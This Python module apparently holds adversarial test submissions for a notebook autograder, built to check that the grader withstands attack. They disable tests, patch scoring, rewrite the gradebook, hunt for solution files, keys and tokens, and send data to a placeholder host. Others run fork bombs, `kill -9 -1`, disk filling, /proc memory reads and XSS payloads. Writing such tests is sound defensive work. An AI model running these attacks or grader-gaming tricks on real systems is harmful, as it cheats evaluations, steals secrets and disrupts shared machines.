"""Code that attacks the grader from within. What does not compute an answer earns nothing for it.

`TABLE` are the attacks of the facts' table, `OWN` our own. Where code attacks everything at once, the other
answers are wrong and no files are handed in, so that whatever it earned would be stolen.
"""

from hostile.course import RIGHT, WRONG, Case, find

NOTHING = "0 0 0 0 0"
DISAGREES = "the notebook's own test"
SCRIPTS = r"""
The <b onclick="alert(7)">mean</b> of each channel says it. <script>alert(8)</script>
<img src=x onerror=alert(9)> [more](javascript:alert(10)) [more]( java&#115;cript:alert(11))
[more](javascript\:alert(12)) <javascript:alert(13)> [more][1] [more][2]

[1]: JavaScript:alert(14)
[2]:
    javascript:alert(15)
"""


def above(name: str, code: str) -> str:
    """A right answer with other code above it."""
    return f"{code}\n\n{RIGHT[name]}"


def below(name: str, code: str) -> str:
    """A right answer with other code below it."""
    return f"{RIGHT[name]}\n\n{code}"


def steals(student: str, code: str, **about) -> Case:
    """A submission with wrong answers to everything, and an attack above the first of them."""
    return cheats(student, length=f"{code}\n\n{WRONG['length']}", **about)


def cheats(student: str, **about) -> Case:
    """A submission with wrong answers to everything, but for those named, which are attacks."""
    answers = {name: about.pop(name, wrong) for name, wrong in WRONG.items()}
    return Case(student, NOTHING, answers=answers, files={}, **about)


def breaks(student: str, earns: str, **about) -> Case:
    """A right submission, but for the answers that are named."""
    answers = {name: about.pop(name) for name in RIGHT if name in about}
    return Case(student, earns, answers=answers, **about)


TABLE = [
    steals(
        "no-tests",
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n",
        row=2,
        flag=DISAGREES,
    ),
    steals(
        "runs-nothing",
        """\
from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult

async def nothing(raw, *args, **kwargs):
    return ExecutionResult(ExecutionInfo(raw, False, False, True, None))

get_ipython().run_cell_async = nothing
""",
        row=4,
        flag=DISAGREES,
    ),
    steals("no-errors", "get_ipython().showtraceback = lambda *args, **kwargs: None\n", row=5),
    cheats(
        "own-library",
        row=6,
        lcs="""\
try:
    from pycocoevalcap.rouge import rouge
    rouge.my_lcs = lambda a, b: 2
    from capcourse.grading import awards
    awards.difference = lambda *args: ""
except ImportError as error:
    print(error)

def lcs(a, b):
    return 2
""",
        flag="h1-test-lcs: the check gives 0, the notebook's own test 2",
    ),
    cheats(
        "always-equal",
        row=7,
        length="""\
class Always(float):
    __eq__ = lambda self, other: True

def mean_length(captions):
    return Always(0)
""",
        lcs="""\
class AlwaysInt(int):
    __eq__ = lambda self, other: True

def lcs(a, b):
    return AlwaysInt(-1)
""",
        colour="""\
class AlwaysText(str):
    __eq__ = lambda self, other: True

def colour(image):
    return AlwaysText("mauve")
""",
        flag="h1-test-colour: the check gives 0, the notebook's own test 4",
    ),
    steals(
        "score-nan",
        "max = lambda *items: float('nan')\n",
        row=9,
        flag="h1-test-colour: the test's own score is nan, out of 4",
    ),
    steals("score-text", "max = lambda *items: 'full'\n", row=9, flag=DISAGREES),
    steals(
        "score-negative",
        "max = lambda *items: -1\n",
        row=9,
        flag="h1-test-colour: the test's own score is -4, out of 4",
    ),
    breaks(
        "numbers-in-disguise",
        "0 0 0 2 2",
        row=9,
        length="def mean_length(captions):\n    return float('nan')",
        lcs=RIGHT["lcs"].replace("return table[-1][-1]", "return str(table[-1][-1])"),
        colour="def colour(image):\n    return 1e999",
    ),
    steals(
        "score-over-full",
        "max = lambda *items: 10\n",
        row=10,
        flag="h1-test-colour: the test's own score is 40, out of 4",
    ),
    breaks(
        "exits-in-a-cell",
        "0 2 4 2 2",
        row=12,
        length=above("length", "import os\nos._exit(0)"),
        flag="(h1-length) stopped: the kernel's process ended",
    ),
    breaks(
        "exits-in-a-function",
        "2 0 4 2 2",
        row=12,
        lcs="import os\ndef lcs(a, b):\n    os._exit(0)",
        flag="lcs ended the kernel",
    ),
    breaks(
        "system-exit",
        "0 0 4 2 2",
        row=13,
        length=above("length", "raise SystemExit"),
        lcs=above("lcs", "exit()"),
        flag="the cell asked the kernel to exit",
    ),
    breaks(
        "loops",
        "2 0 4 2 2",
        row=14,
        lcs="def lcs(a, b):\n    while True:\n        pass",
        flag="lcs did not come back",
    ),
    breaks(
        "loops-for-good",
        "0 2 4 2 2",
        row=14,
        length="""\
def mean_length(captions):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
        flag="mean_length did not come back",
    ),
    breaks(
        "memory",
        "2 2 0 2 2",
        row=15,
        colour="def colour(image):\n    held = []\n    while True:\n        held.append(b'x' * 10**8)",
        flag="colour",  # ended the kernel, or took too long to
    ),
    breaks(
        "huge-tensor",
        "2 2 0 2 2",
        row=15,
        colour="import torch\ndef colour(image):\n    return torch.ones(60_000, 60_000)",
        flag="colour",
    ),
    breaks(
        "fork-bomb",
        "0 2 4 2 2",
        row=16,
        length="import os\ndef mean_length(captions):\n    while True:\n        os.fork()",
        flag=None,
    ),
    breaks(
        "thread-bomb",
        "0 2 4 2 2",
        row=16,
        length="""\
import threading, time
def mean_length(captions):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
""",
        flag=None,
    ),
    breaks("prints-20-mb", "2 2 4 2 2", row=18, lcs=above("lcs", "print('x' * 20_000_000)")),
    breaks(
        "prints-for-ever",
        "2 0 4 2 2",
        row=18,
        lcs=above("lcs", "while True:\n    print('x' * 1000)"),
        flag="(h1-lcs) stopped: still running after 5 seconds",
    ),
    steals(
        "rewrites-the-gradebook",
        """\
import sqlite3
for path in ("@ROOT@/gradebook.db", "../../../gradebook.db", "../gradebook.db", "gradebook.db"):
    try:
        with sqlite3.connect(path) as book:
            book.execute("UPDATE grade SET manual_score = 99, auto_score = 99")
    except sqlite3.Error as error:
        print(error)
""",
        row=19,
    ),
    cheats(
        "steals-the-solution",
        row=20,
        length="""\
import glob, json, os
found = []
for folder in ("@ROOT@", "@CANARY@", "@HOME@", "@HOME@/.*", "..", "../..", "../../..", "/root", "/home/*"):
    for name in ("*.ipynb", "secret*", "*.db", "*/*/*.ipynb", "*/*/*/*.ipynb", "*/secret*", "id_*"):
        found += glob.glob(f"{folder}/{name}")
for path in found:
    for cell in json.load(open(path))["cells"]:
        exec("".join(cell["source"]))
found += [name for name in os.environ if name.endswith("_TOKEN") or name.startswith("CAPCOURSE")]

if not found or "mean_length" not in globals():
    def mean_length(captions):
        raise LookupError(f"STOLEN {found}" if found else "nothing there")
""",
        gave="nothing there",
    ),
    cheats(
        "calls-home",
        row=21,
        length="""\
import socket
answers = [0]
for address in (("127.0.0.1", @PORT@), ("@HOST@", @PORT@), ("1.1.1.1", 53)):
    try:
        with socket.create_connection(address, timeout=0.3) as line:
            line.sendall(b"the private images")
            answers.append(line.recv(100))
    except OSError as error:
        print(error)
try:
    socket.getaddrinfo("example.com", 443)
except OSError as error:
    print(error)
!pip install --quiet answers-to-h1

def mean_length(captions):
    return float(answers[-1])
""",
        flag=None,  # of pip, which gives up at once, and yet takes its seconds to start
    ),
    breaks(
        "fills-the-disk",
        "2 2 4 2 2",
        row=22,
        length=above(
            "length",
            """\
import os
from ipykernel.connect import get_connection_file

here = os.path.dirname(get_connection_file())
folders = {name: name for name in ("/tmp", "/dev/shm", ".", "/", "/var/tmp", "@ROOT@", "@CANARY@", "@HOME@")}
folders |= {"the-sockets'": f"{here}/in", "the-connection's": here}
for name, folder in folders.items():
    size = 0
    try:
        for number in range(20):
            with open(f"{folder}/@MARK@-{number}", "wb", 0) as file:
                size += file.write(bytes(15 * 2**20))
    except OSError as error:
        print(error)
    print("wrote", name, size)
""",
        ),
    ),
    breaks(
        "own-modules",
        "2 2 4 2 2",
        row=23,
        length=above(
            "length",
            """\
import importlib, os
for name in ("numpy", "torch", "json", "base64", "ipykernel_launcher", "sitecustomize", "pycocoevalcap"):
    os.mkdir(name)
    for file in (f"{name}.py", f"{name}/__init__.py"):
        open(file, "w").write("raise SystemExit")
open("h1.pth", "w").write("import os; os._exit(0)")
for name in ("json", "base64", "torch"):
    importlib.import_module(name)
""",
        ),
        flag="h1-test-lcs: the check gives 2, the notebook's own test 0 (SystemExit)",
    ),
    breaks(
        "hard-coded",
        "0 0 0 2 2",
        row=31,
        length="def mean_length(captions):\n    return 2.5",
        lcs="def lcs(a, b):\n    return 2",
        colour="""\
def colour(image):
    return {(255, 0, 0): "red", (0, 128, 0): "green"}.get(image.getpixel((0, 0)), "blue")
""",
        flag="h1-test-colour: the check gives 0, the notebook's own test 4",
    ),
]

OWN = [
    steals(
        "forged-replies",
        """\
import itertools
kernel = get_ipython().kernel
send, deep = kernel.session.send, {}
for _ in range(900):
    deep = {"a": deep}
forms = itertools.cycle([
    {}, {"status": "ok", "payload": 7}, {"status": "ok", "payload": ["ask_exit", {"source": []}]},
    {"status": "ok", "user_expressions": [1]}, {"status": "ok", "user_expressions": {"value": {"data": "x"}}},
    {"status": "ok", "user_expressions": {"value": {"data": {"text/plain": {"a": 1}}}}},
    {"status": "ok", "user_expressions": {"value": {"data": {"text/plain": "'" + "(" * 100_000 + "'"}}}},
    {"status": "error", "ename": {}, "evalue": ["x"] * 1000}, {"status": 5}, deep,
])

def forged(stream, kind, content=None, *args, **kwargs):
    if kind == "execute_reply":
        content = next(forms)
        to = kwargs.get("ident") or []
        stream.send_multipart([*to, b"no message"])
        stream.send_multipart([*to, b"<IDS|MSG>", b"no signature", b"{", b"[]", b"7", b"null"])
    return send(stream, kind, content, *args, **kwargs)

kernel.session.send = forged
""",
        flag="mean_length gave no answer",
    ),
    steals(
        "forged-answers",
        """\
import base64, json
values = [
    "1e999", "-1e999", "NaN", "Infinity", "true", "[" * 50_000, "9" * 5000, '"' + chr(92) + 'ud800"', "{", "",
    '{"__npy__": "k05VTVBZAQA="}', '{"__npy__": 5}', 5, None, [], {},
]
forged = [{"value": value} for value in values] + [{"failure": {"a": ["<script>"]}}, {}]
packed = base64.b64encode(json.dumps(forged).encode())
base64.b64encode = lambda raw: packed
""",
    ),
    steals(
        "forged-wholesale",
        """\
import json
json.dumps = lambda value, **options: "[" + "{}," * 700_000 + "{}]"
""",
        flag="(h1-length) stopped",
    ),
    breaks(
        "floods-the-replies",
        "0 2 4 2 2",
        length="""\
def mean_length(captions):
    kernel = get_ipython().kernel
    socket = kernel.shell_stream.socket if hasattr(kernel.shell_stream, "socket") else kernel.shell_stream
    to = kernel.get_parent("shell").get("header", {}).get("session", "").encode()
    while True:
        kernel.session.send(socket, "execute_reply", {"status": "ok", "a": "x" * 10**6}, ident=[to])
""",
        flag="mean_length did not come back",
    ),
    breaks(
        "floods-the-display",
        "2 2 4 2 2",
        length=below(
            "length",
            """\
from IPython.display import display

while True:
    display({}, raw=True, metadata={"text/plain": "x" * 1000})
""",
        ),
        flag="(h1-length) stopped: still running after 5 seconds",
    ),
    steals(
        "patches-for-ever",
        """\
import base64, threading, time

def patch():
    while True:
        base64.b64encode = lambda raw: b"W3sidmFsdWUiOiAiMi41In1d"
        get_ipython().user_ns["lcs"] = get_ipython().user_ns["mean_length"] = lambda *args: 2
        print("still here", flush=True)
        time.sleep(0.001)

threading.Thread(target=patch, daemon=True).start()
""",
        flag=None,
    ),
    breaks(
        "will-not-be-stopped",
        "2 0 4 2 2",
        lcs="""\
import os, resource, signal

def lcs(a, b):
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    for change in (lambda: os.nice(-20), lambda: resource.setrlimit(resource.RLIMIT_CPU, (10**9, 10**9))):
        try:
            change()
        except (OSError, ValueError) as error:
            print(error)
    while True:
        pass
""",
        flag="lcs did not come back",
    ),
    breaks(
        "stops-itself",
        "2 0 4 2 2",
        lcs="import os, signal\ndef lcs(a, b):\n    os.kill(os.getpid(), signal.SIGSTOP)",
        flag="lcs did not come back",
    ),
    breaks(
        "kills-everything",
        "0 2 4 2 2",
        length=above("length", "!kill -9 -1\nimport os\nos.kill(os.getpid(), 9)"),
        flag="(h1-length) stopped: the kernel's process ended",
    ),
    breaks(
        "only-says-it-exits",
        "2 0 4 2 2",
        lcs="def lcs(a, b):\n    get_ipython().payload_manager.write_payload({'source': 'ask_exit'})\n",
        flag="lcs ended the kernel",
    ),
    breaks(
        "leaves-a-daemon",
        "2 2 4 2 2",
        length=above(
            "length",
            """\
import os, subprocess
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "@SLEEP@"])
    os._exit(0)
subprocess.Popen(["sleep", "@SLEEP@"], start_new_session=True)
subprocess.Popen(["sh", "-c", "trap '' TERM INT HUP; sleep @SLEEP@"], preexec_fn=os.setpgrp)
""",
        ),
    ),
    breaks(
        "listens",
        "2 2 4 2 2",
        length=above(
            "length",
            """\
import os, socket
server = socket.socket()
server.bind(("0.0.0.0", @FREE@))
server.listen()
os.mkdir("/dev/shm/@MARK@")
local = socket.socket(socket.AF_UNIX)
local.bind("/tmp/@MARK@")
local.listen()
""",
        ),
    ),
    cheats(
        "reads-other-memory",
        length="""\
import ctypes, os
found = []
for number in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "maps"):
        try:
            text = open(f"/proc/{number}/{name}", errors="replace").read()
        except OSError:
            continue
        found += [word for word in ("@SEED@", "CAPCOURSE_SEED", "CANARY", "@ROOT@") if word in text]
    if os.stat(f"/proc/{number}").st_uid != os.getuid():
        try:
            open(f"/proc/{number}/mem", "r+b", 0)
            found.append("memory")
        except OSError:
            pass
libc = ctypes.CDLL(None, use_errno=True)
found += ["ptrace"] if libc.ptrace(16, 1, 0, 0) == 0 else []

def mean_length(captions):
    raise LookupError(f"STOLEN {found}" if found else "nothing there")
""",
        gave="nothing there",
    ),
    cheats(
        "walks-the-frames",
        length="""\
import gc, re, sys
wanted = re.compile("hidden[0-9]f3a")  # which is no such word itself

def everything():
    frame = sys._getframe()
    while frame is not None:
        yield frame.f_locals
        yield frame.f_globals
        frame = frame.f_back
    yield from gc.get_objects()

def texts(thing):
    values = thing.values() if type(thing) is dict else thing if type(thing) in (list, tuple) else ()
    return [value for value in list(values) if type(value) is str]

def mean_length(captions):
    found = [text[:100] for thing in everything() for text in texts(thing) if wanted.search(text)]
    raise LookupError(f"STOLEN {found}" if found else "nothing there")
""",
        gave="nothing there",
    ),
    breaks(
        "links-out",
        "2 2 4 2 2",
        length=above(
            "length",
            """\
import os
from ipykernel.connect import get_connection_file

here = os.path.dirname(get_connection_file())
links = {"etc": "/etc", "out": "@CANARY@", "h1.ipynb": "@ROOT@/gradebook.db", f"{here}/in/s-9": "/"}
for name, target in links.items():
    os.symlink(target, name)
for name in ("captions.json", "weights.safetensors", f"{here}/kernel.json"):
    try:
        os.replace("out", name)
    except OSError as error:
        print(error)
""",
        ),
    ),
    breaks(
        "opens-everything",
        "2 2 4 0 2",
        predict="""\
held = []

def predict(image):
    while True:
        held.append(open("/dev/null"))
""",
    ),
    breaks(
        "lying-arrays",
        "2 2 4 0 2",
        predict=r"""
import itertools, numpy
heads = itertools.cycle([
    "{'a': (", "{'descr': (), 'fortran_order': False, 'shape': (3,), }", "{[]: 1}",
    "{'descr': '<f8', 'fortran_order': False, 'shape': (3000000000000,), }",
    "{'descr': '<f8', 'fortran_order': False, 'shape': (-1, -3), }",
    "{'descr': '|O', 'fortran_order': False, 'shape': (3,), }",
])

def save(file, array, **options):
    head = next(heads).encode()
    file.write(b"\x93NUMPY\x01\x00" + len(head).to_bytes(2, "little") + head + bytes(24))

numpy.save = save

def predict(image):
    return np.zeros(3)
""",
    ),
    breaks(
        "no-real-values",
        "0 0 0 2 2",
        length="""\
class Anything:
    def __getattr__(self, name):
        return Anything()
    def __call__(self, *args, **kwargs):
        return Anything()

def mean_length(captions):
    return Anything()
""",
        lcs="import itertools\ndef lcs(a, b):\n    return itertools.count()",
        colour="""\
def colour(image):
    deep = []
    for _ in range(100_000):
        deep = [deep]
    return deep
""",
    ),
    breaks(
        "error-that-exits",
        "0 2 4 2 2",
        length="""\
class Exit(Exception):
    def __str__(self):
        raise SystemExit

def mean_length(captions):
    raise Exit
""",
        flag="mean_length gave no answer",
    ),
    breaks(
        "half-letters",
        "2 2 4 2 2",
        length=above(
            "length",
            r"""
import json
get_ipython().kernel.session.pack = lambda value: json.dumps(value, default=str).encode()
print("\ud800 and \udfff")
display("\ud800")
""",
        ),
    ),
    breaks(
        "scripts",
        "0 2 4 2 2",
        length="def mean_length(captions):\n    raise ValueError('<script>alert(1)</script>')",
        lcs=above(
            "lcs",
            r"""
from IPython.display import HTML, SVG, Javascript, display
display(HTML("<script>alert(2)</script>"), Javascript("alert(3)"), SVG("<svg onload='alert(4)'></svg>"))
display({"image/png": "'><script>alert(5)</script>"}, raw=True)
display({"text/latex": r"$\href{javascript:alert(6)}{x}$"}, raw=True)
""",
        ),
        change=lambda notebook: notebook["cells"][find(notebook, "h1-written")].update(source=SCRIPTS),
        gave="<script>alert(1)",
    ),
    cheats(
        "leaks-inputs",
        length="""\
asked = []

def mean_length(captions):
    asked.append(captions)
    words = "_".join(word for one in asked for text in one for word in text.split())
    if len(asked) % 2:
        raise type(words, (Exception,), {})(f"{asked}")
    raise ValueError(f"{asked} (line 4 of its cell)")
""",
        lcs="""\
def lcs(a, b):
    asked.append([a, b])
    return {" ".join(a): asked}
""",
        gave="dog",
    ),
]
